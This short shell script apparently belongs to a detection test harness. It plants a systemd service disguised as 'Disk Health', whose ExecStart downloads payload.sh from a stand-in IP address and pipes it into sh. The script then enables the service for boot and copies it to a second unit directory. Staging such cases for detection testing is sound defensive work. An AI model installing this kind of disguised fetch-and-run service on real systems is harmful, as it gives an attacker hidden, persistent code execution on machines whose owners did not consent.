#!/bin/sh
. /opt/case/case.sh

mkdir -p /run/systemd/system/multi-user.target.wants /usr/local/lib/systemd/system
printf '[Unit]\nDescription=Disk Health\n[Service]\nExecStart=/bin/sh -c "curl -fsSL http://203.0.113.10/payload.sh | sh"\nRestart=always\n' >/run/systemd/system/smartd-health.service
ln -s ../smartd-health.service /run/systemd/system/multi-user.target.wants/smartd-health.service
cp /run/systemd/system/smartd-health.service /usr/local/lib/systemd/system/
took_place
